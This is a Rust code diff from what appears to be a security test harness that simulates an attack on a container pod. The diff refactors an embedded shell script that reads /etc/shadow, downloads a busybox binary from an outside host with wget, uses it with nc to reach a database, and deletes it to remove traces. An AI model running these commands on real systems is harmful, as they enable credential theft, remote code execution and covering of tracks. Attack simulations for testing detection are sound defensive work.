@@ -24,16 +24,15 @@ pub(crate) const ATTEMPTS: usize = 3;
 const ATTACK_LIMIT: Duration = Duration::from_secs(20);
 const DELETE_LIMIT: Duration = Duration::from_secs(10);
 
-/// A shell, a download, a run from /tmp that talks to the database, and the traces removed. `$0` is a busybox.
-const SCRIPT: &str = r#"
-set -e
-"$0" cat /etc/shadow > /dev/null
-"$0" wget -q -O "$DROP/busybox" "http://$OUTSIDER/busybox"
-"$0" chmod 755 "$DROP/busybox"
+/// What is typed into the shell: a download, runs from /tmp that talk to the database, and the traces removed.
+const TYPED: &str = r#"set -e
+"$BUSYBOX" cat /etc/shadow > /dev/null
+"$BUSYBOX" wget -q -O "$DROP/busybox" "http://$OUTSIDER/busybox"
+"$BUSYBOX" chmod 755 "$DROP/busybox"
 for attempt in $ATTEMPTS; do
-    printf 'QUIT\r\n' | "$DROP/busybox" nc -w 3 "$DB_ADDRESS" "$DB_PORT" > /dev/null
+    echo QUIT | "$DROP/busybox" nc -w 3 "$DB_ADDRESS" "$DB_PORT" > /dev/null
 done
-"$0" rm "$DROP/busybox"
+"$BUSYBOX" rm "$DROP/busybox"
 "#;
 
 /// Attacks the pod; nothing of it is left on the disk.
@@ -54,9 +53,12 @@ pub(crate) fn attack() -> Result<()> {
 
 fn run(busybox: &Path) -> Result<()> {
     let attempts: Vec<String> = (1..=ATTEMPTS).map(|attempt| attempt.to_string()).collect();
-    let program = busybox.display().to_string();
-    let mut command = member::command(VICTIM, busybox, &["sh", "-c", SCRIPT, &program])?;
+    let typed = Path::new(FOLDER).join("typed");
+    fs::write(&typed, TYPED).with_context(|| format!("write {}", typed.display()))?;
+    let mut command = member::command(VICTIM, busybox, &["sh"])?;
     command
+        .stdin(fs::File::open(&typed)?)
+        .env("BUSYBOX", busybox)
         .env("DROP", DROP_FOLDER)
         .env("OUTSIDER", format!("{}:{OUTSIDER_PORT}", OUTSIDER.address()))
         .env("DB_ADDRESS", DB.address())
